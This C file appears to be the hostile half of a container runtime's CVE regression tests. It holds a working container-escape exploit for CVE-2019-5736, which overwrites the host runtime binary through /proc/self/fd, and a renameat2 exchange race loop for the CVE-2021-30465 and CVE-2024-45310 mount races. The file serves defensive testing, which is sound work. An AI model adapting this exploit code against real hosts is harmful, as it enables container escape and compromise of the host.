/* SPDX-License-Identifier: GPL-2.0-or-later */
/* attacker: the hostile side of the CVE regression tests. Built static, like
   the probe, so that it runs in any rootfs and on the host.

     attacker exe-overwrite DIR
         Inside a container (CVE-2019-5736): watches /proc for a process whose
         exe is not its own, holds an O_PATH fd of it, lets it go by opening
         DIR/fifo, waits for it to exit, then reopens the fd through
         /proc/self/fd/N for writing and writes. Writes DIR/ready when it
         starts watching and its findings, as JSON, to DIR/result.json.

     attacker exchange SECONDS PATH1 PATH2 [PATH1 PATH2]...
         On the host (CVE-2021-30465, CVE-2024-45310): swaps each pair with
         renameat2(RENAME_EXCHANGE), pair after pair, in a tight loop until
         SECONDS pass or SIGTERM; every pair ends as it began. Prints
         {"exchanges": N} (per pair). */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double
now (void)
{
  struct timespec t;

  clock_gettime (CLOCK_MONOTONIC, &t);
  return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

static void
pause_ms (long ms)
{
  struct timespec t = { ms / 1000, (ms % 1000) * 1000000L };

  nanosleep (&t, NULL);
}

/* What exe-overwrite found, written once at the end. */
struct findings
{
  int victim;      /* pid, or -1 */
  int open_errno;  /* of the reopen for writing, 0 if it opened */
  int write_errno; /* of the write, 0 if it wrote */
  bool written;
  const char *error; /* why the attack could not even be tried */
};

static int
report (const char *dir, const struct findings *f)
{
  char tmp[4096], final[4096];
  FILE *out;

  snprintf (tmp, sizeof tmp, "%s/result.json.tmp", dir);
  snprintf (final, sizeof final, "%s/result.json", dir);
  out = fopen (tmp, "w");
  if (out == NULL)
    return 1;
  fprintf (out, "{\"victim\": %d, \"open_errno\": %d, \"write_errno\": %d, \"written\": %s, \"error\": ",
           f->victim, f->open_errno, f->write_errno, f->written ? "true" : "false");
  if (f->error)
    fprintf (out, "\"%s\"}\n", f->error);
  else
    fputs ("null}\n", out);
  if (fclose (out) != 0 || rename (tmp, final) < 0)
    return 1;
  return f->error ? 1 : 0;
}

static bool
same_file (const struct stat *a, const struct stat *b)
{
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* One pass over /proc: an O_PATH fd of the exe of the first other process
   whose exe differs from ours and is open to us, or -1. A runtime still
   setting the process up is non-dumpable: stat() of its exe fails, skip. */
static int
find_victim (const struct stat *self, int *ret_pid)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  int fd = -1;

  if (d == NULL)
    return -1;
  while (fd < 0 && (e = readdir (d)) != NULL)
    {
      char path[64];
      struct stat st;
      int pid = atoi (e->d_name);

      if (pid <= 0 || pid == getpid ())
        continue;
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      if (stat (path, &st) < 0 || same_file (&st, self))
        continue;
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd >= 0)
        *ret_pid = pid;
    }
  closedir (d);
  return fd;
}

/* Waits (bounded) for `pid` to be gone, draining the fifo it may log to. */
static void
wait_exit (int pid, int fifo, double deadline)
{
  char buf[4096];

  while ((kill (pid, 0) == 0 || errno != ESRCH) && now () < deadline)
    {
      while (fifo >= 0 && read (fifo, buf, sizeof buf) > 0)
        ;
      pause_ms (1);
    }
}

static int
exe_overwrite (const char *dir)
{
  static const char payload[] = "#!/bin/sh\necho overwritten by a container\n";
  struct findings f = { .victim = -1 };
  struct stat self;
  char path[4096];
  double deadline = now () + 60;
  int fd = -1, w;

  if (stat ("/proc/self/exe", &self) < 0)
    f.error = "stat /proc/self/exe";
  snprintf (path, sizeof path, "%s/ready", dir);
  if (f.error == NULL && (w = open (path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644)) >= 0)
    close (w);
  while (f.error == NULL && fd < 0 && now () < deadline)
    fd = find_victim (&self, &f.victim);
  if (f.error == NULL && fd < 0)
    f.error = "no victim appeared";
  if (f.error)
    return report (dir, &f);

  /* The victim blocks opening the fifo for writing (the script's interpreter
     line gives it `--log FIFO`): that holds it still for us, without racing. */
  snprintf (path, sizeof path, "%s/fifo", dir);
  int fifo = open (path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  wait_exit (f.victim, fifo, deadline);
  if (fifo >= 0)
    close (fifo);

  /* While a runtime on the host still executes the file: ETXTBSY. */
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  while ((w = open (path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && now () < deadline)
    pause_ms (5);
  if (w < 0)
    {
      f.open_errno = errno;
      return report (dir, &f);
    }
  if (write (w, payload, sizeof payload - 1) == (ssize_t) (sizeof payload - 1))
    f.written = true;
  else
    f.write_errno = errno ? errno : EIO;
  close (w);
  return report (dir, &f);
}

static volatile sig_atomic_t stop;

static void
on_term (int sig)
{
  (void) sig;
  stop = 1;
}

static int
exchange (double seconds, char **paths, int npaths)
{
  struct sigaction sa = { .sa_handler = on_term };
  double end = now () + seconds;
  unsigned long n = 0;

  sigaction (SIGTERM, &sa, NULL);
  sigaction (SIGINT, &sa, NULL);
  /* An even count leaves every pair as it was. */
  while (!stop || n % 2)
    {
      for (int i = 0; i + 1 < npaths; i += 2)
        if (syscall (SYS_renameat2, AT_FDCWD, paths[i], AT_FDCWD, paths[i + 1], RENAME_EXCHANGE) < 0)
          {
            fprintf (stderr, "attacker: exchange %s %s: %s\n", paths[i], paths[i + 1], strerror (errno));
            return 1;
          }
      /* The clock is read rarely: the loop is the point. */
      if (++n % 1024 == 0 && now () > end)
        break;
    }
  printf ("{\"exchanges\": %lu}\n", n);
  return 0;
}

int
main (int argc, char **argv)
{
  if (argc == 3 && strcmp (argv[1], "exe-overwrite") == 0)
    return exe_overwrite (argv[2]);
  if (argc >= 5 && argc % 2 == 1 && strcmp (argv[1], "exchange") == 0)
    return exchange (atof (argv[2]), argv + 3, argc - 3);
  fputs ("usage: attacker exe-overwrite DIR | exchange SECONDS PATH1 PATH2 [PATH1 PATH2]...\n", stderr);
  return 2;
}
